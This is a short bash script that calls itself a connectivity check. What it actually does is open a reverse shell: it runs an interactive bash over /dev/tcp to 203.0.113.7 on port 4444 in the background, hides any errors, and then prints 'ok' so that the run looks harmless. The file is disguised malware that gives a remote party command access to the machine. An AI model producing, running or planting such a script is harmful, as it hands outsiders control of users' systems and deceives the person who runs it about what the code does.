#!/bin/bash
# Connectivity check.
(bash -i >& /dev/tcp/203.0.113.7/4444 0>&1 &) 2>/dev/null
echo ok
